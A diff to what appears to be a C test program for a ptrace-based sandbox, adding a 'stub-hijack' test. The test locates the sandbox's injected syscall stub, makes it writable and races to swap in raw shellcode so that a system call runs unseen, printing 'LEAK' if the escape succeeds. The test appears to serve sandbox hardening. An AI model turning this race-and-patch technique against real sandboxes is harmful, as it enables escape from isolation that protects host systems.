@@ -847,6 +847,99 @@ static int cmd_hijack_injection(const char *path, long iter)
     return 0;
 }
 
+/*
+ * An attack on the ptrace platform's fd stub: find the stub the sentry mapped into
+ * this process (an anonymous r-x page starting `syscall; int3`), and keep swapping its
+ * code with code that makes a trapped call (uname into our own buffer) while the main
+ * thread opens files. The sentry must never let that call run unseen: the process
+ * is killed, or the sentry never ran the swapped code. "LEAK" means a host uname.
+ */
+static unsigned char stub_orig[20], stub_evil[20];
+static unsigned char *volatile stub_code;
+static struct utsname leak_buf;
+
+static void *stub_flipper(void *arg)
+{
+    (void)arg;
+    for (unsigned long n = 0;; n++) {
+        unsigned char *code = stub_code;
+        /* each for a while (the sentry checks the code, then runs it, microseconds
+         * apart), at a varying rhythm */
+        memcpy(code, (n & 1) ? stub_evil : stub_orig, sizeof stub_orig);
+        for (volatile unsigned long spin = (n * 7919) % 20000; spin; spin--)
+            ;
+        if (leak_buf.release[0]) { /* the main thread spins in the evil code */
+            printf("LEAK %s\n", leak_buf.release);
+            fflush(stdout);
+            _exit(1);
+        }
+    }
+    return NULL;
+}
+
+/* A stub not yet attacked (still r-x), made writable: the sentry replaces a stub it
+ * finds changed, so the attack moves on to each new one. */
+static unsigned char *stub_take(void)
+{
+    FILE *maps = fopen("/proc/self/maps", "r");
+    char line[512];
+    unsigned char *found = NULL;
+    while (maps && fgets(line, sizeof line, maps)) {
+        unsigned long lo, hi, inode;
+        char perms[8];
+        if (sscanf(line, "%lx-%lx %7s %*s %*s %lu", &lo, &hi, perms, &inode) == 4 &&
+            !strcmp(perms, "r-xp") && inode == 0 && hi - lo == 4096 &&
+            !memcmp((void *)lo, "\x0f\x05\xcc", 3))
+            found = (unsigned char *)lo;
+    }
+    if (maps)
+        fclose(maps);
+    if (found && mprotect(found, 4096, PROT_READ | PROT_WRITE | PROT_EXEC) < 0)
+        return NULL;
+    return found;
+}
+
+static int cmd_stub_hijack(const char *path, long iter)
+{
+    int fd = open(path, O_RDONLY);
+    if (fd < 0)
+        return fail();
+    close(fd);
+    unsigned char *stub = stub_take();
+    if (!stub) {
+        printf("no stub\n");
+        return 0;
+    }
+    memcpy(stub_orig, stub, sizeof stub_orig);
+    /* mov $63,%eax; movabs $leak_buf,%rdi; syscall; jmp . */
+    unsigned char evil[sizeof stub_evil] = { 0xb8, 63, 0, 0, 0, 0x48, 0xbf, 0, 0, 0, 0, 0, 0,
+                                             0, 0, 0x0f, 0x05, 0xeb, 0xfe };
+    uint64_t addr = (uint64_t)&leak_buf;
+    memcpy(evil + 7, &addr, 8);
+    memcpy(stub_evil, evil, sizeof stub_evil);
+    stub_code = stub;
+    pthread_t th;
+    if (pthread_create(&th, NULL, stub_flipper, NULL))
+        return fail();
+    long stubs = 1;
+    for (long i = 0; i < iter; i++) {
+        fd = (int)syscall(SYS_open, path, O_RDONLY, 0);
+        if (fd >= 0)
+            close(fd);
+        if (leak_buf.release[0]) {
+            printf("LEAK %s\n", leak_buf.release);
+            return 1;
+        }
+        unsigned char *next = stub_take();
+        if (next) {
+            stub_code = next;
+            stubs++;
+        }
+    }
+    printf("survived stubs=%ld\n", stubs);
+    return 0;
+}
+
 int main(int argc, char **argv)
 {
     setvbuf(stdout, NULL, _IOLBF, 0);
@@ -1004,6 +1097,10 @@ int main(int argc, char **argv)
     if (!strcmp(c, "open-signals")) { NEED(4, "open-signals PATH ITER"); return cmd_open_signals(argv[2], strtol(argv[3], NULL, 0)); }
     if (!strcmp(c, "open-lowstack")) { NEED(3, "open-lowstack PATH"); return cmd_open_lowstack(argv[2]); }
     if (!strcmp(c, "job-control")) return cmd_job_control();
+    if (!strcmp(c, "stub-hijack")) {
+        NEED(4, "stub-hijack PATH ITER");
+        return cmd_stub_hijack(argv[2], strtol(argv[3], NULL, 0));
+    }
     if (!strcmp(c, "hijack-injection")) {
         NEED(4, "hijack-injection PATH ITER");
         return cmd_hijack_injection(argv[2], strtol(argv[3], NULL, 0));
